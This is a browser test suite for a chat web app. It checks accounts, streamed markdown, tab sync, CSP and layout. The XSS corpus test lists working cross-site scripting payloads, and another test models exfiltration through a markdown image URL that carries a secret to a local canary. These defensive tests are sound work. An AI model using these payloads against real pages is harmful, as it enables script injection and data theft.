"""The web page in real headless Chromium: accounts, streaming, tabs, stop, safety, CSP, layout."""
from __future__ import annotations

import re
import time
import urllib.request

import pytest

from chatd.testing import ServerProcess, unique_name, wait_until

from .helpers import PASSWORD, CanaryServer

pytestmark = pytest.mark.browser


def test_page_is_served_with_strict_csp(shared_server: ServerProcess) -> None:
    with urllib.request.urlopen(shared_server.url) as r:
        csp = r.headers["Content-Security-Policy"]
        body = r.read().decode()
    directives = dict(d.strip().split(" ", 1) for d in csp.split(";") if d.strip())
    assert directives["default-src"] == "'self'"
    assert directives["script-src"] == "'self'"
    assert directives["style-src"] == "'self'"
    assert directives["img-src"] == "'self' data:"
    assert directives["object-src"] == "'none'"
    assert directives["base-uri"] == "'none'"
    assert directives["frame-ancestors"] == "'none'"
    host = f"127.0.0.1:{shared_server.port}"
    assert directives["connect-src"].split() == ["'self'", f"ws://{host}", f"wss://{host}"]
    # No inline script or style in the page; every URL relative (works under a proxy prefix).
    assert "<style" not in body and " style=" not in body
    assert not re.search(r"<script(?![^>]*\bsrc=)", body)
    assert not re.search(r"""(?:src|href)="/""", body)


def test_register_sign_out_and_sign_in(shared_server: ServerProcess, new_tab) -> None:
    tab = new_tab(shared_server.url).open()
    tab.page.wait_for_selector("#auth-view", state="visible")
    tab.shot("01-login")
    name = unique_name("alice")
    tab.register(name)
    assert tab.page.inner_text("#me-name") == name
    tab.shot("02-empty-chat")
    # The token lives in sessionStorage (this tab), never in the URL or in localStorage.
    assert "access_token" not in tab.page.url and "token" not in tab.page.url
    assert tab.page.evaluate("() => localStorage.length") == 0
    tab.page.click("#logout")
    tab.page.wait_for_selector("#auth-view", state="visible")
    assert tab.page.evaluate("() => sessionStorage.getItem('chatd.session')") is None
    # A wrong password is refused with a message; the right one signs in.
    tab.page.fill("#auth-username", name)
    tab.page.fill("#auth-password", "not the password")
    tab.page.click("#auth-submit")
    tab.page.wait_for_selector("#auth-error:has-text('Wrong username or password')")
    tab.login(name)
    assert tab.page.inner_text("#me-name") == name
    # Reloading the tab keeps the session (sessionStorage).
    tab.page.reload()
    tab.wait_online()
    assert not tab.errors, tab.errors
    assert not tab.csp_violations()


def test_streamed_reply_renders_progressively(shared_server: ServerProcess, new_tab) -> None:
    tab = new_tab(shared_server.url).open()
    tab.register(unique_name())
    tab.send("hello streaming world")
    # The user's message shows at once; then the reply streams in: text grows over several frames.
    tab.page.wait_for_selector(".msg-me .bubble:has-text('hello streaming world')")
    tab.wait_reply_started(1)
    seen: list[str] = []
    saw_typing = False
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        st = tab.last_reply_state()
        if st:
            saw_typing = saw_typing or st["typing"]
            if st["status"] == "streaming" and st["text"] and (not seen or seen[-1] != st["text"]):
                seen.append(st["text"])
                if len(seen) == 4:
                    tab.shot("03-streaming")
            if st["status"] != "streaming":
                break
        time.sleep(0.03)
    reply = tab.wait_reply_done(1)
    final = tab.reply_text(1)
    assert len(seen) >= 4, f"the reply did not stream progressively: {seen}"
    # The demo's reply is markdown: while `code` or **bold** is still open its marks show as
    # text, and vanish once closed. Compare the words without those marks.
    norm = lambda s: " ".join(re.sub(r"[`*_]", "", s).split())  # noqa: E731
    for partial in seen:  # every intermediate state is a prefix of the end result: nothing twice
        assert norm(final).startswith(norm(partial)), (partial, final)
    assert "hello streaming world" in final
    assert reply.get_attribute("data-status") == "complete"
    # aria-live on the reply, usage under it once finished.
    body = reply.locator(".msg-body")
    assert body.get_attribute("aria-live") == "polite"
    assert body.get_attribute("aria-busy") == "false"
    # Token counts sit in the Details popover, hidden until asked for.
    assert not reply.locator(".usage").is_visible()
    reply.locator(".msg-details summary").click()
    usage = reply.locator(".usage").inner_text()
    assert re.search(r"\d+ tokens", usage), usage
    # The sidebar holds the new conversation, newest first.
    tab.page.wait_for_selector("#conversation-list .conv-item.active")
    tab.shot("04-reply-complete")
    assert not tab.errors, tab.errors
    del saw_typing  # the indicator may be too brief to sample; the markdown test checks it exists


def test_markdown_reply_with_code_table_list(shared_server: ServerProcess, new_tab) -> None:
    tab = new_tab(shared_server.url).open()
    tab.register(unique_name())
    md = ("/echo ## Plan\n\nA list:\n\n1. first\n2. second\n\n- bullet *em* **strong**\n\n"
          "| lang | year |\n|:-----|-----:|\n| Python | 1991 |\n| Rust | 2015 |\n\n"
          "```python\ndef greet(name):\n    return f\"hi {name}\"\n```\n\nInline `code` and a [link](https://example.org/docs).")
    tab.send(md)
    reply = tab.wait_reply_done(1)
    b = reply.locator(".msg-body")
    assert b.locator("h2").inner_text() == "Plan"
    assert b.locator("ol > li").count() == 2
    assert b.locator("ul > li em").inner_text() == "em"
    assert b.locator("table tbody tr").count() == 2
    assert b.locator("td[align='right']").first.inner_text() == "1991"
    code = b.locator(".code-block pre code")
    assert "hljs" in (code.get_attribute("class") or "")
    assert code.locator("span.hljs-keyword").first.inner_text() == "def"
    assert code.inner_text().startswith("def greet(name):")
    assert b.locator(".code-block .btn-copy").count() == 1
    link = b.locator("a:has-text('link')")
    assert link.get_attribute("href") == "https://example.org/docs"
    assert link.get_attribute("target") == "_blank"
    assert set((link.get_attribute("rel") or "").split()) >= {"noopener", "noreferrer"}
    # The copy button copies the code (clipboard permission granted for the check).
    tab.page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=shared_server.url.rstrip("/"))
    b.locator(".code-block .btn-copy").click()
    tab.page.wait_for_selector(".btn-copy.copied")
    copied = tab.page.evaluate("() => navigator.clipboard.readText()")
    assert copied == 'def greet(name):\n    return f"hi {name}"'
    tab.shot("05-markdown")
    assert not tab.csp_violations()


def test_composer_keyboard(shared_server: ServerProcess, new_tab) -> None:
    tab = new_tab(shared_server.url).open()
    tab.register(unique_name())
    box = tab.page.locator("#composer-input")
    box.click()
    tab.page.keyboard.type("line one")
    tab.page.keyboard.press("Shift+Enter")
    tab.page.keyboard.type("line two")
    assert box.input_value() == "line one\nline two"
    assert tab.page.locator(".msg-me").count() == 0  # Shift+Enter did not send
    tab.page.keyboard.press("Enter")
    tab.page.wait_for_selector(".msg-me .bubble")
    assert tab.page.inner_text(".msg-me .bubble") == "line one\nline two"
    assert box.input_value() == ""
    tab.wait_reply_done(1)
    # Keyboard only: Tab reaches the sidebar's controls and the focus is visible.
    tab.page.focus("#new-chat")
    tab.page.keyboard.press("Tab")
    assert tab.page.evaluate("() => document.activeElement.className").startswith("conv-open")
    tab.page.keyboard.press("Shift+Tab")
    outline = tab.page.evaluate("() => getComputedStyle(document.activeElement).outlineStyle")
    assert outline != "none"


def test_two_tabs_stay_in_sync(shared_server: ServerProcess, new_tab) -> None:
    one = new_tab(shared_server.url).open()
    one.register(unique_name("sync"))
    # A second tab of the same browser gets the session from the first (BroadcastChannel), no login.
    two = new_tab(shared_server.url, context=one.page.context).open()
    two.wait_online()
    one.send("/echo Hello from tab one, streamed to both tabs.")
    one.page.wait_for_selector("#conversation-list .conv-item")
    # The sidebar of tab two is live: the conversation appears without a reload.
    two.page.wait_for_selector("#conversation-list .conv-item")
    two.page.click("#conversation-list .conv-open")
    two.wait_reply_done(1)
    one.wait_reply_done(1)
    assert one.reply_text(1) == two.reply_text(1) == "Hello from tab one, streamed to both tabs."
    # A message sent in tab two appears in tab one, with its reply streamed to both.
    two.send("/echo Second reply.")
    one.page.wait_for_selector(".msg-me .bubble:has-text('/echo Second reply.')")
    one.wait_reply_done(2)
    two.wait_reply_done(2)
    assert one.reply_text(2) == two.reply_text(2) == "Second reply."
    # Rename in tab one → tab two's sidebar and header follow.
    item = one.page.locator("#conversation-list .conv-item").first
    item.hover()
    item.locator("button[aria-label^='Rename']").click()
    one.page.fill(".conv-rename", "Renamed in tab one")
    one.page.press(".conv-rename", "Enter")
    two.page.wait_for_selector("#conversation-list .conv-name:has-text('Renamed in tab one')")
    two.page.wait_for_selector("#conversation-title:has-text('Renamed in tab one')")
    # A new conversation in tab two shows up first in tab one's sidebar (newest first).
    two.page.click("#new-chat")
    two.send("/echo Newer conversation.")
    two.wait_reply_done(1)
    one.page.wait_for_function("() => document.querySelectorAll('#conversation-list .conv-item').length === 2")
    wait_until(lambda: one.page.locator("#conversation-list .conv-name").first.inner_text() != "Renamed in tab one",
               what="the newest conversation first")
    one.shot("06-tab-one")
    two.shot("07-tab-two")
    # Delete in tab one → gone from tab two.
    first = one.page.locator("#conversation-list .conv-item").first
    first.hover()
    first.locator("button[aria-label^='Delete']").click()
    two.page.wait_for_function("() => document.querySelectorAll('#conversation-list .conv-item').length === 1")
    assert two.page.inner_text("#conversation-list .conv-name") == "Renamed in tab one"
    assert not one.csp_violations() and not two.csp_violations()


def test_other_members_typing_indicator(shared_server: ServerProcess, new_tab) -> None:
    alice = new_tab(shared_server.url).open()
    bob = new_tab(shared_server.url).open()
    alice_name, bob_name = unique_name("alice"), unique_name("bob")
    alice.register(alice_name)
    bob.register(bob_name)
    bob_id = bob.page.evaluate("() => window.__chatd.session.user.id")
    token = shared_server.login(alice_name, PASSWORD)
    conv = shared_server.api("POST", "api/v1/conversations", token, {"title": "Shared", "member_ids": [bob_id]})
    alice.page.wait_for_selector("#conversation-list .conv-name:has-text('Shared')")
    bob.page.wait_for_selector("#conversation-list .conv-name:has-text('Shared')")
    alice.page.click("#conversation-list .conv-open")
    bob.page.click("#conversation-list .conv-open")
    alice.wait_joined()
    bob.wait_joined()
    bob.page.click("#composer-input")
    bob.page.keyboard.type("I am typing", delay=30)
    alice.page.wait_for_selector("#typing-others:has-text('is typing')")
    assert str(conv["conversation"]["id"])
    # Bob sends: the indicator goes away and alice sees bob's message, labelled as another member's.
    bob.page.keyboard.press("Enter")
    alice.page.wait_for_selector(".msg-other .bubble:has-text('I am typing')")
    alice.page.wait_for_function("() => document.querySelector('#typing-others').textContent === ''")
    alice.wait_reply_done(1)
    alice.shot("08-shared-conversation")


def test_stop_a_reply(shared_server: ServerProcess, new_tab) -> None:
    tab = new_tab(shared_server.url).open()
    tab.register(unique_name())
    words = " ".join(f"w{i:03d}" for i in range(400))
    tab.send(f"/echo {words}")
    tab.page.wait_for_selector("#stop-button:not([hidden])")
    wait_until(lambda: len((tab.last_reply_state() or {}).get("text", "")) > 20, what="some streamed text")
    tab.shot("09-stop-button")
    tab.page.click("#stop-button")
    reply = tab.wait_reply_done(1, timeout=10000)
    reply.locator(".badge:has-text('Stopped')").wait_for()
    stopped = tab.reply_text(1)
    assert 0 < len(stopped) < len(words) and words.startswith(stopped.strip())
    time.sleep(0.6)
    assert tab.reply_text(1) == stopped  # nothing more arrives
    assert tab.page.is_visible("#send-button") and not tab.page.is_visible("#stop-button")
    # The stored reply agrees: cancelled, with the partial text.
    token = tab.page.evaluate("() => window.__chatd.session.token")
    cid = tab.page.evaluate("() => window.__chatd.activeKey")
    msgs = shared_server.api("GET", f"api/v1/conversations/{cid}/messages", token)["messages"]
    assert msgs[-1]["status"] == "cancelled"
    assert msgs[-1]["content"].strip() == stopped.strip()
    tab.shot("10-stopped")


XSS_PAYLOADS = [
    "<script>window.__xss.push('script')</script>",
    "<img src=x onerror=\"window.__xss.push('img')\">",
    "<svg onload=\"window.__xss.push('svg')\"><circle r=1></circle></svg>",
    "<iframe srcdoc=\"<script>parent.__xss.push('iframe')</script>\"></iframe>",
    "[md link](javascript:window.__xss.push('mdlink'))",
    "<a href=\"javascript:window.__xss.push('a')\">html link</a>",
    "<a href=\"jav&#x09;ascript:window.__xss.push('a2')\">entity link</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">data link</a>",
    "<details open ontoggle=\"window.__xss.push('details')\"><summary>s</summary>d</details>",
    "<p style=\"background:url(http://127.0.0.1:{canary}/style)\">styled</p>",
    "<table background=\"http://127.0.0.1:{canary}/bg\"><tr><td>t</td></tr></table>",
    "<form action=\"javascript:window.__xss.push('form')\"><button>go</button></form>",
    "<object data=\"http://127.0.0.1:{canary}/obj\"></object><embed src=\"http://127.0.0.1:{canary}/embed\">",
    "<input autofocus onfocus=\"window.__xss.push('focus')\">",
    "<video poster=\"http://127.0.0.1:{canary}/poster\"><source src=\"http://127.0.0.1:{canary}/v\"></video>",
    "<div onmouseover=\"window.__xss.push('hover')\" class=\"composer\">hover me</div>",
    "<style>body{background:url(http://127.0.0.1:{canary}/css)}</style>",
    "<base href=\"http://127.0.0.1:{canary}/\"><link rel=stylesheet href=\"http://127.0.0.1:{canary}/l.css\">",
    "`<script>` stays text in code, and so does ```<img src=x onerror=alert(1)>```",
    # last: an unclosed <style> inside foreign content swallows whatever follows it
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__xss.push('mxss')\">",
]


def test_xss_corpus_stays_inert(shared_server: ServerProcess, new_tab, canary: CanaryServer) -> None:
    tab = new_tab(shared_server.url).open()
    tab.register(unique_name())
    # The demo assistant streams /echo text in 4-character deltas, so every payload reaches the
    # page split across several stream chunks (e.g. "<scr" + "ipt>").
    corpus = "\n\n".join(p.replace("{canary}", str(canary.port)) for p in XSS_PAYLOADS)
    tab.send(f"/echo before\n\n{corpus}")
    reply = tab.wait_reply_done(1)
    time.sleep(0.5)
    body = reply.locator(".msg-body")
    found = tab.page.evaluate("""(root) => {
        const bad = [];
        for (const el of root.querySelectorAll('*')) {
            const tag = el.tagName.toLowerCase();
            if (['script','img','svg','iframe','object','embed','form','input','video','audio','source','style',
                 'link','base','math'].includes(tag)) bad.push(tag);
            for (const a of el.attributes) {
                if (a.name.startsWith('on') || a.name === 'style' || a.name === 'background' || a.name === 'src')
                    bad.push(tag + '@' + a.name);
                if (a.name === 'href' && !/^(https?:|mailto:|#)/i.test(a.value)) bad.push(tag + '@href=' + a.value);
            }
            if (tag === 'a' && el.hasAttribute('href') && !el.getAttribute('href').startsWith('#')) {
                if (el.target !== '_blank' || !/noopener/.test(el.rel) || !/noreferrer/.test(el.rel))
                    bad.push('a without target/rel');
            }
        }
        return bad;
    }""", body.element_handle())
    assert found == [], found
    # javascript: links are inert (no href), click them anyway: nothing runs.
    for link in body.locator("a:not([href])").all():
        link.click()
    body.locator("p:has-text('hover me')").last.hover()
    time.sleep(0.3)
    assert tab.page.evaluate("() => window.__xss") == []
    text = body.inner_text()
    assert text.startswith("before") and "hover me" in text
    assert "<script>" in text  # inline code shows the markup as text
    assert canary.hits == [], canary.hits
    assert not [u for u in tab.requests if f":{canary.port}" in u]
    assert not tab.csp_violations(), tab.csp_violations()
    assert not tab.errors, tab.errors
    tab.shot("11-xss-corpus", full_page=True)


def test_external_markdown_image_is_never_fetched(shared_server: ServerProcess, new_tab, canary: CanaryServer) -> None:
    tab = new_tab(shared_server.url).open()
    tab.register(unique_name())
    secret = "SECRET-abc123"
    url = f"http://127.0.0.1:{canary.port}/exfil.png?d={secret}"
    tab.send(f"/echo Here is the chart: ![chart]({url})\n\nAnd by reference: ![ref][r]\n\n"
             f"[r]: http://127.0.0.1:{canary.port}/ref.png\n\n<img src=\"http://127.0.0.1:{canary.port}/raw.png\">")
    reply = tab.wait_reply_done(1)
    time.sleep(1.0)
    assert canary.hits == [], f"the image was fetched: {canary.hits}"
    foreign = [u for u in tab.requests if not u.startswith(shared_server.url)]
    assert foreign == [], foreign
    assert reply.locator("img").count() == 0
    # The image became a plain link the user may follow deliberately.
    link = reply.locator("a.img-link").first
    assert link.inner_text().startswith("Image: chart")
    assert link.get_attribute("href") == url
    assert link.get_attribute("target") == "_blank"
    assert "noreferrer" in (link.get_attribute("rel") or "")
    tab.shot("12-external-image-as-link")


def test_no_csp_violation_in_a_normal_session(shared_server: ServerProcess, new_tab) -> None:
    tab = new_tab(shared_server.url).open()
    tab.register(unique_name())
    tab.send("/echo Some **bold** text, a list:\n\n- a\n- b\n\n```js\nconsole.log('hi')\n```\n\n"
             "| a | b |\n|---|---|\n| 1 | 2 |")
    tab.wait_reply_done(1)
    tab.send("and a canned reply")
    tab.wait_reply_done(2)
    tab.page.click("#new-chat")
    tab.page.click("#conversation-list .conv-open")
    assert tab.page.locator("#assistant-picker option[value='demo']").count() == 1
    tab.page.select_option("#assistant-picker", index=0)
    tab.page.set_viewport_size({"width": 360, "height": 720})
    tab.page.click("#menu-button")
    tab.page.wait_for_selector(".chat.sidebar-open")
    tab.page.keyboard.press("Escape")
    tab.page.wait_for_selector(".chat:not(.sidebar-open)")
    tab.page.click("#menu-button")
    tab.page.click("#logout")
    tab.page.wait_for_selector("#auth-view", state="visible")
    assert tab.csp_violations() == []
    assert not [c for c in tab.console if c.startswith("error")], tab.console
    assert not tab.errors, tab.errors


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_narrow_screen_and_themes(shared_server: ServerProcess, new_tab, scheme: str) -> None:
    tab = new_tab(shared_server.url, viewport={"width": 360, "height": 740}, color_scheme=scheme,
                  device_scale_factor=2, has_touch=True, is_mobile=True).open()
    tab.page.wait_for_selector("#auth-view", state="visible")
    tab.shot(f"13-login-360-{scheme}")
    tab.register(unique_name())
    tab.send("/echo A reply that wraps on a narrow screen, with `code`:\n\n```python\n"
             "print('a rather long line of code that has to scroll sideways on a phone')\n```\n\n"
             "| col | another column | third |\n|---|---|---|\n| 1 | 2 | 3 |")
    tab.wait_reply_done(1)
    width = tab.page.evaluate("() => document.documentElement.scrollWidth")
    assert width <= 360, f"horizontal overflow at 360px: {width}"
    bg = tab.page.evaluate("() => getComputedStyle(document.body).backgroundColor")
    assert (bg == "rgb(255, 255, 255)") == (scheme == "light"), bg
    tab.shot(f"14-chat-360-{scheme}")
    tab.page.click("#menu-button")
    tab.page.wait_for_selector(".chat.sidebar-open")
    time.sleep(0.3)
    tab.shot(f"15-drawer-360-{scheme}")
    tab.page.keyboard.press("Escape")
    assert tab.page.get_attribute("#menu-button", "aria-expanded") == "false"


def test_history_pages_in_when_scrolling_up(shared_server: ServerProcess, new_tab) -> None:
    tab = new_tab(shared_server.url).open()
    name = unique_name()
    tab.register(name)
    tab.send("/echo r0")
    tab.wait_reply_done(1)
    for i in range(1, 35):  # 35 exchanges = 70 messages; the page loads the newest 50 first
        tab.send(f"/echo r{i}")
        tab.wait_reply_done(i + 1)
    tab.page.reload()
    tab.wait_online()
    tab.page.wait_for_selector(".msg-assistant .msg-body:has-text('r34')")
    first_count = tab.page.locator("#message-list > li").count()
    assert first_count == 50
    assert tab.page.locator(".msg-me .bubble", has_text=re.compile(r"^/echo r0$")).count() == 0
    tab.page.evaluate("() => { document.querySelector('#messages').scrollTop = 0; }")
    tab.page.wait_for_function("() => document.querySelectorAll('#message-list > li').length === 70")
    tab.page.wait_for_selector("#history-status:has-text('Beginning of the conversation')")
    texts = tab.page.locator(".msg-me .bubble").all_inner_texts()
    assert texts == [f"/echo r{i}" for i in range(35)]
    tab.shot("16-history-paged")


def test_expired_or_revoked_token_returns_to_login(shared_server: ServerProcess, new_tab) -> None:
    tab = new_tab(shared_server.url).open()
    tab.register(unique_name())
    # A forged token in sessionStorage: the WebSocket is closed with 4001 and the page asks to sign in.
    tab.page.evaluate("""() => {
        const s = JSON.parse(sessionStorage.getItem('chatd.session'));
        s.token = s.token.slice(0, -4) + 'AAAA';
        sessionStorage.setItem('chatd.session', JSON.stringify(s));
    }""")
    tab.page.reload()
    tab.page.wait_for_selector("#auth-view", state="visible")
    assert "sign in" in tab.page.inner_text("#auth-notice").lower()


def test_works_under_a_proxy_path_prefix(shared_server: ServerProcess, new_tab, prefix_proxy) -> None:
    proxy = prefix_proxy(shared_server.port)
    tab = new_tab(proxy.url).open()
    tab.register(unique_name())
    tab.send("/echo Served under /chat/, streamed over /chat/api/v1/chat/ws.")
    tab.wait_reply_done(1)
    assert tab.reply_text(1) == "Served under /chat/, streamed over /chat/api/v1/chat/ws."
    # Every request (page, assets, REST, WebSocket) stayed under the prefix.
    assert proxy.outside == [], proxy.outside
    assert all(u.startswith(proxy.url) for u in tab.requests), tab.requests
    want = proxy.url.replace("http:", "ws:") + "api/v1/chat/ws"
    assert tab.sockets and all(u == want for u in tab.sockets), tab.sockets
